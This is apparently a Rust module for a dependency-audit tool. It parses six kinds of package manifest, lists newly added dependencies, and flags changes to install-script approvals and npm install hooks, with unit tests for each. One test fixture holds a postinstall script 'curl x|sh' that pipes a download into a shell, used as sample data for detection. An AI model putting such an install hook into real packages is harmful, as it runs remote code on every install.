//! The dependencies a manifest declares, for `round audit` (issue 31,
//! step 5): which ones the round adds, and which install-script approvals
//! it changes.
//!
//! Manifests read, each by its file name:
//!
//! | File | Read with | Sections |
//! | --- | --- | --- |
//! | `Cargo.toml` | `toml` | `[dependencies]`, `[dev-dependencies]`, `[build-dependencies]`, the same under `[target.*]`, `[workspace.dependencies]` |
//! | `package.json` | `serde_json` | `dependencies`, `devDependencies`, `peerDependencies`, `optionalDependencies`, `bundleDependencies` (npm docs, "package.json") |
//! | `pyproject.toml` | `toml` | `project.dependencies`, `project.optional-dependencies.*`, `dependency-groups.*` (PEP 621, PEP 735), `tool.poetry.dependencies`, `tool.poetry.dev-dependencies`, `tool.poetry.group.*.dependencies` |
//! | `go.mod` | line by line | `require` and `replace` lines and blocks (Go reference, "go.mod files") |
//! | `requirements*.txt` | line by line | every requirement line (pip's "Requirements File Format"); `-r` and `-c` includes are named, not followed |
//! | `Gemfile` | line by line | `gem "NAME"` calls (Bundler's Gemfile); Ruby is not evaluated |
//!
//! Install-script approvals, in `package.json`: `trustedDependencies`
//! (Bun), `pnpm.onlyBuiltDependencies` and `pnpm.neverBuiltDependencies`
//! (pnpm settings), and the package's own `preinstall`, `install`,
//! `postinstall` and `prepare` scripts, which npm runs on install.
//!
//! A manifest that cannot be parsed is a [`ManifestError`] with its
//! 1-based line; nothing here reads a file or panics.

use std::collections::BTreeMap;

/// What a manifest declares: each dependency as `section` → name →
/// requirement (as written, or `*` when none is written), and the
/// install-script approvals as `setting` → value.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Declared {
    /// Section (`dependencies`, `dev-dependencies`, `require`, …) →
    /// dependency name → requirement as written.
    pub dependencies: BTreeMap<String, BTreeMap<String, String>>,
    /// Install-script approval setting (`trustedDependencies`,
    /// `pnpm.onlyBuiltDependencies`, `scripts.postinstall`, …) → its
    /// value as compact JSON.
    pub approvals: BTreeMap<String, String>,
}

/// Why a manifest cannot be read: the 1-based line (`None` when the
/// parser gives none) and the parser's message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ManifestError {
    /// 1-based line of the error in the manifest.
    pub line: Option<u32>,
    /// What is wrong, as the parser says it.
    pub message: String,
}

/// The kinds of manifest read (module doc for each).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Manifest {
    /// `Cargo.toml`.
    Cargo,
    /// `package.json`.
    PackageJson,
    /// `pyproject.toml`.
    PyProject,
    /// `go.mod`.
    GoMod,
    /// `requirements*.txt`.
    Requirements,
    /// `Gemfile`.
    Gemfile,
}

impl Manifest {
    /// The manifest kind of the repository-relative `path`, by its file
    /// name; `None` for any other file (`package-lock.json` and other lock
    /// files are not manifests here).
    pub fn of(path: &str) -> Option<Manifest> {
        let name = path.rsplit('/').next().unwrap_or(path);
        match name {
            "Cargo.toml" => Some(Manifest::Cargo),
            "package.json" => Some(Manifest::PackageJson),
            "pyproject.toml" => Some(Manifest::PyProject),
            "go.mod" => Some(Manifest::GoMod),
            "Gemfile" => Some(Manifest::Gemfile),
            n if n.starts_with("requirements") && n.ends_with(".txt") => {
                Some(Manifest::Requirements)
            }
            _ => None,
        }
    }

    /// What `text` declares.
    ///
    /// # Errors
    /// A [`ManifestError`] when the TOML or JSON cannot be parsed, or a
    /// `go.mod` block is not closed.
    pub fn read(self, text: &str) -> Result<Declared, ManifestError> {
        match self {
            Manifest::Cargo => cargo(&toml_table(text)?),
            Manifest::PyProject => pyproject(&toml_table(text)?),
            Manifest::PackageJson => package_json(text),
            Manifest::GoMod => go_mod(text),
            Manifest::Requirements => Ok(requirements(text)),
            Manifest::Gemfile => Ok(gemfile(text)),
        }
    }
}

fn toml_table(text: &str) -> Result<toml::Table, ManifestError> {
    toml::from_str(text).map_err(|e| ManifestError {
        line: e.span().map(|s| line_of(text, s.start)),
        message: e.message().trim().to_string(),
    })
}

/// The 1-based line of byte offset `at` in `text`.
fn line_of(text: &str, at: usize) -> u32 {
    let upto = text.get(..at).unwrap_or(text);
    u32::try_from(upto.matches('\n').count() + 1).unwrap_or(u32::MAX)
}

/// The requirement a TOML dependency value writes: a version string, or
/// the table's `version`, `path`, `git` (in that order), else `*`.
fn toml_requirement(value: &toml::Value) -> String {
    match value {
        toml::Value::String(s) => s.clone(),
        toml::Value::Table(t) => ["version", "path", "git"]
            .iter()
            .find_map(|k| t.get(*k).and_then(toml::Value::as_str))
            .map_or_else(|| "*".to_string(), |s| s.to_string()),
        other => other.to_string(),
    }
}

fn add_toml_section(out: &mut Declared, section: &str, value: Option<&toml::Value>) {
    let Some(table) = value.and_then(toml::Value::as_table) else {
        return;
    };
    let entry = out.dependencies.entry(section.to_string()).or_default();
    for (name, v) in table {
        entry.insert(name.clone(), toml_requirement(v));
    }
}

const CARGO_SECTIONS: [&str; 3] = ["dependencies", "dev-dependencies", "build-dependencies"];

fn cargo(table: &toml::Table) -> Result<Declared, ManifestError> {
    let mut out = Declared::default();
    for s in CARGO_SECTIONS {
        add_toml_section(&mut out, s, table.get(s));
    }
    if let Some(targets) = table.get("target").and_then(toml::Value::as_table) {
        for (cfg, t) in targets {
            for s in CARGO_SECTIONS {
                add_toml_section(&mut out, &format!("target.{cfg}.{s}"), t.get(s));
            }
        }
    }
    let workspace = table.get("workspace").and_then(|w| w.get("dependencies"));
    add_toml_section(&mut out, "workspace.dependencies", workspace);
    Ok(out)
}

/// The distribution name of a PEP 508 requirement (`requests[socks]>=2`
/// is `requests`), lower-cased with runs of `-_.` as `-` (PEP 503).
fn pep508_name(requirement: &str) -> String {
    let name: String = requirement
        .trim()
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
        .collect();
    let mut out = String::new();
    for c in name.to_ascii_lowercase().chars() {
        let sep = matches!(c, '-' | '_' | '.');
        if !(sep && out.ends_with('-')) {
            out.push(if sep { '-' } else { c });
        }
    }
    out
}

fn add_pep508_list(out: &mut Declared, section: &str, value: Option<&toml::Value>) {
    let Some(list) = value.and_then(toml::Value::as_array) else {
        return;
    };
    let entry = out.dependencies.entry(section.to_string()).or_default();
    for item in list.iter().filter_map(toml::Value::as_str) {
        let name = pep508_name(item);
        if !name.is_empty() {
            entry.insert(name, item.trim().to_string());
        }
    }
}

fn pyproject(table: &toml::Table) -> Result<Declared, ManifestError> {
    let mut out = Declared::default();
    let project = table.get("project");
    add_pep508_list(
        &mut out,
        "project.dependencies",
        project.and_then(|p| p.get("dependencies")),
    );
    let groups = [
        (
            "project.optional-dependencies",
            project.and_then(|p| p.get("optional-dependencies")),
        ),
        ("dependency-groups", table.get("dependency-groups")),
    ];
    for (prefix, value) in groups {
        for (group, list) in value.and_then(toml::Value::as_table).into_iter().flatten() {
            add_pep508_list(&mut out, &format!("{prefix}.{group}"), Some(list));
        }
    }
    let poetry = table.get("tool").and_then(|t| t.get("poetry"));
    for s in ["dependencies", "dev-dependencies"] {
        add_toml_section(
            &mut out,
            &format!("tool.poetry.{s}"),
            poetry.and_then(|p| p.get(s)),
        );
    }
    let poetry_groups = poetry
        .and_then(|p| p.get("group"))
        .and_then(toml::Value::as_table);
    for (group, g) in poetry_groups.into_iter().flatten() {
        let section = format!("tool.poetry.group.{group}.dependencies");
        add_toml_section(&mut out, &section, g.get("dependencies"));
    }
    Ok(out)
}

const NPM_SECTIONS: [&str; 4] = [
    "dependencies",
    "devDependencies",
    "peerDependencies",
    "optionalDependencies",
];

/// The scripts npm runs when the package itself is installed (npm docs,
/// "scripts", "Life Cycle Scripts").
const INSTALL_SCRIPTS: [&str; 4] = ["preinstall", "install", "postinstall", "prepare"];

fn package_json(text: &str) -> Result<Declared, ManifestError> {
    let doc: serde_json::Value = serde_json::from_str(text).map_err(|e| ManifestError {
        line: u32::try_from(e.line()).ok().filter(|l| *l > 0),
        message: e.to_string(),
    })?;
    let mut out = Declared::default();
    for s in NPM_SECTIONS {
        let Some(map) = doc.get(s).and_then(serde_json::Value::as_object) else {
            continue;
        };
        let entry = out.dependencies.entry(s.to_string()).or_default();
        for (name, v) in map {
            let req = v.as_str().map_or_else(|| v.to_string(), str::to_string);
            entry.insert(name.clone(), req);
        }
    }
    for s in ["bundleDependencies", "bundledDependencies"] {
        let Some(list) = doc.get(s).and_then(serde_json::Value::as_array) else {
            continue;
        };
        let entry = out.dependencies.entry(s.to_string()).or_default();
        for name in list.iter().filter_map(serde_json::Value::as_str) {
            entry.insert(name.to_string(), "*".to_string());
        }
    }
    let approvals = [
        ("trustedDependencies", doc.get("trustedDependencies")),
        (
            "pnpm.onlyBuiltDependencies",
            doc.get("pnpm").and_then(|p| p.get("onlyBuiltDependencies")),
        ),
        (
            "pnpm.neverBuiltDependencies",
            doc.get("pnpm")
                .and_then(|p| p.get("neverBuiltDependencies")),
        ),
    ];
    let scripts = INSTALL_SCRIPTS.map(|s| {
        let value = doc.get("scripts").and_then(|x| x.get(s));
        (s, value)
    });
    for (key, value) in approvals {
        if let Some(v) = value {
            out.approvals.insert(key.to_string(), v.to_string());
        }
    }
    for (key, value) in scripts {
        if let Some(v) = value {
            out.approvals
                .insert(format!("scripts.{key}"), v.to_string());
        }
    }
    Ok(out)
}

/// A line without its `//` comment, trimmed.
fn go_line(line: &str) -> &str {
    line.split("//").next().unwrap_or_default().trim()
}

fn go_mod(text: &str) -> Result<Declared, ManifestError> {
    let mut out = Declared::default();
    let mut block: Option<(&str, u32)> = None;
    for (i, raw) in text.lines().enumerate() {
        let number = u32::try_from(i + 1).unwrap_or(u32::MAX);
        let line = go_line(raw);
        if let Some((directive, _)) = block {
            if line == ")" {
                block = None;
            } else if !line.is_empty() {
                go_entry(&mut out, directive, line);
            }
            continue;
        }
        let mut words = line.splitn(2, char::is_whitespace);
        let directive = words.next().unwrap_or_default();
        if !matches!(directive, "require" | "replace") {
            continue;
        }
        let rest = words.next().unwrap_or_default().trim();
        if rest == "(" {
            block = Some((
                if directive == "require" {
                    "require"
                } else {
                    "replace"
                },
                number,
            ));
        } else {
            go_entry(&mut out, directive, rest);
        }
    }
    match block {
        Some((directive, line)) => Err(ManifestError {
            line: Some(line),
            message: format!("the `{directive} (` block is not closed with `)`"),
        }),
        None => Ok(out),
    }
}

fn go_entry(out: &mut Declared, directive: &str, entry: &str) {
    let (name, requirement) = match directive {
        "replace" => entry.split_once("=>").map_or((entry, ""), |(a, b)| (a, b)),
        _ => entry.split_once(char::is_whitespace).unwrap_or((entry, "")),
    };
    let name = name.split_whitespace().next().unwrap_or_default();
    if name.is_empty() {
        return;
    }
    out.dependencies
        .entry(directive.to_string())
        .or_default()
        .insert(name.to_string(), requirement.trim().to_string());
}

fn requirements(text: &str) -> Declared {
    let mut out = Declared::default();
    for raw in text.lines() {
        let line = raw.split(" #").next().unwrap_or_default().trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let (section, name) = if let Some(rest) = option(line, &["-r", "--requirement"]) {
            ("includes", rest.to_string())
        } else if let Some(rest) = option(line, &["-c", "--constraint"]) {
            ("includes", rest.to_string())
        } else if let Some(rest) = option(line, &["-e", "--editable"]) {
            ("requirements", rest.to_string())
        } else if line.starts_with('-') {
            continue;
        } else if line.contains("://") {
            ("requirements", line.to_string())
        } else {
            ("requirements", pep508_name(line))
        };
        if !name.is_empty() {
            out.dependencies
                .entry(section.to_string())
                .or_default()
                .insert(name, line.to_string());
        }
    }
    out
}

/// The value of `line` when it starts with one of `flags` (`-r x`,
/// `-rx`, `--requirement=x`, `--requirement x`).
fn option<'a>(line: &'a str, flags: &[&str]) -> Option<&'a str> {
    flags.iter().find_map(|f| {
        let rest = line.strip_prefix(f)?;
        let (rest, separated) = match rest.strip_prefix('=') {
            Some(r) => (r, true),
            None => (rest, rest.starts_with(char::is_whitespace)),
        };
        // `--requirementx` is no flag; `-rx` is `-r x`.
        (separated || !f.starts_with("--"))
            .then(|| rest.trim())
            .filter(|r| !r.is_empty())
    })
}

fn gemfile(text: &str) -> Declared {
    let mut out = Declared::default();
    for raw in text.lines() {
        let line = raw.trim();
        let Some(rest) = line.strip_prefix("gem") else {
            continue;
        };
        let rest = rest.trim_start_matches(['(', ' ', '\t']);
        let Some(quote) = rest.chars().next().filter(|c| matches!(c, '"' | '\'')) else {
            continue;
        };
        let Some(name) = rest[1..].split(quote).next().filter(|n| !n.is_empty()) else {
            continue;
        };
        out.dependencies
            .entry("gem".to_string())
            .or_default()
            .insert(name.to_string(), line.to_string());
    }
    out
}

/// One dependency a round adds: in `head` under `section`, in no section
/// of `base` under the same name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Added {
    /// The section at the head.
    pub section: String,
    /// The dependency's name.
    pub name: String,
    /// Its requirement as written.
    pub requirement: String,
}

/// The dependencies of `head` that `base` does not declare in any section
/// (one moved from `devDependencies` to `dependencies` is not new), in
/// section then name order.
pub fn added(base: &Declared, head: &Declared) -> Vec<Added> {
    let known = |name: &str| base.dependencies.values().any(|m| m.contains_key(name));
    let mut out = Vec::new();
    for (section, deps) in &head.dependencies {
        for (name, requirement) in deps {
            if !known(name) {
                out.push(Added {
                    section: section.clone(),
                    name: name.clone(),
                    requirement: requirement.clone(),
                });
            }
        }
    }
    out
}

/// The install-script approval settings whose value differs between
/// `base` and `head`: (setting, base value, head value), `None` for
/// absent.
pub fn approvals_changed(
    base: &Declared,
    head: &Declared,
) -> Vec<(String, Option<String>, Option<String>)> {
    let mut keys: Vec<&String> = base.approvals.keys().chain(head.approvals.keys()).collect();
    keys.sort();
    keys.dedup();
    keys.into_iter()
        .filter_map(|k| {
            let (b, h) = (base.approvals.get(k), head.approvals.get(k));
            (b != h).then(|| (k.clone(), b.cloned(), h.cloned()))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(m: Manifest, text: &str) -> Vec<String> {
        let d = m.read(text).unwrap();
        d.dependencies
            .iter()
            .flat_map(|(s, deps)| deps.keys().map(move |n| format!("{s}:{n}")))
            .collect()
    }

    #[test]
    fn each_manifest_gives_its_sections() {
        let cargo = "[dependencies]\nserde = \"1\"\n[dev-dependencies]\nx = { path = \"x\" }\n\
            [target.'cfg(unix)'.dependencies]\nlibc = \"0.2\"\n[workspace.dependencies]\nw = \"1\"\n";
        assert_eq!(
            names(Manifest::Cargo, cargo),
            [
                "dependencies:serde",
                "dev-dependencies:x",
                "target.cfg(unix).dependencies:libc",
                "workspace.dependencies:w"
            ]
        );
        let npm =
            r#"{"dependencies":{"a":"1"},"devDependencies":{"b":"2"},"bundleDependencies":["c"]}"#;
        assert_eq!(
            names(Manifest::PackageJson, npm),
            [
                "bundleDependencies:c",
                "dependencies:a",
                "devDependencies:b"
            ]
        );
        let py = "[project]\ndependencies = [\"Requests[socks]>=2\", \"zope.interface\"]\n\
            [project.optional-dependencies]\ndev = [\"pytest\"]\n[dependency-groups]\nlint = [\"ruff\"]\n\
            [tool.poetry.group.docs.dependencies]\nmkdocs = \"*\"\n";
        assert_eq!(
            names(Manifest::PyProject, py),
            [
                "dependency-groups.lint:ruff",
                "project.dependencies:requests",
                "project.dependencies:zope-interface",
                "project.optional-dependencies.dev:pytest",
                "tool.poetry.group.docs.dependencies:mkdocs"
            ]
        );
        let go = "module m\n\nrequire golang.org/x/net v0.1.0 // indirect\nrequire (\n\tgithub.com/a/b v1.2.3\n)\nreplace github.com/a/b => ../b\n";
        assert_eq!(
            names(Manifest::GoMod, go),
            [
                "replace:github.com/a/b",
                "require:github.com/a/b",
                "require:golang.org/x/net"
            ]
        );
        let req = "# pinned\nDjango==5.0 # web\n-r base.txt\n--constraint=c.txt\n--index-url https://x\n-e ./local\nflask_cors\n";
        assert_eq!(
            names(Manifest::Requirements, req),
            [
                "includes:base.txt",
                "includes:c.txt",
                "requirements:./local",
                "requirements:django",
                "requirements:flask-cors"
            ]
        );
        let gem = "source 'https://rubygems.org'\ngem \"rails\", \"~> 7\"\ngem('pg')\n  gem 'rspec' # test\ngems = 1\n";
        assert_eq!(
            names(Manifest::Gemfile, gem),
            ["gem:pg", "gem:rails", "gem:rspec"]
        );
    }

    #[test]
    fn malformed_manifests_say_where() {
        let e = Manifest::Cargo
            .read("[dependencies]\nserde = \n")
            .unwrap_err();
        assert_eq!(e.line, Some(2), "{e:?}");
        let e = Manifest::PackageJson.read("{\n\"a\": 1,\n}").unwrap_err();
        assert_eq!(e.line, Some(3), "{e:?}");
        let e = Manifest::GoMod
            .read("module m\nrequire (\n a v1\n")
            .unwrap_err();
        assert_eq!(e.line, Some(2));
        assert!(e.message.contains("not closed"));
    }

    #[test]
    fn what_is_new_and_which_approvals_changed() {
        let base = Manifest::PackageJson
            .read(r#"{"devDependencies":{"a":"1"},"trustedDependencies":["x"]}"#)
            .unwrap();
        let head = Manifest::PackageJson
            .read(
                r#"{"dependencies":{"a":"1","b":"2"},"trustedDependencies":["x","evil"],
                "pnpm":{"onlyBuiltDependencies":["esbuild"]},"scripts":{"postinstall":"curl x|sh","test":"t"}}"#,
            )
            .unwrap();
        let new = added(&base, &head);
        assert_eq!(new.len(), 1, "a moved dependency is not new: {new:?}");
        assert_eq!(
            (new[0].name.as_str(), new[0].section.as_str()),
            ("b", "dependencies")
        );
        let changed: Vec<String> = approvals_changed(&base, &head)
            .into_iter()
            .map(|(k, _, _)| k)
            .collect();
        assert_eq!(
            changed,
            [
                "pnpm.onlyBuiltDependencies",
                "scripts.postinstall",
                "trustedDependencies"
            ]
        );
        assert_eq!(
            Manifest::of("a/requirements-dev.txt"),
            Some(Manifest::Requirements)
        );
        assert_eq!(Manifest::of("package-lock.json"), None);
    }
}
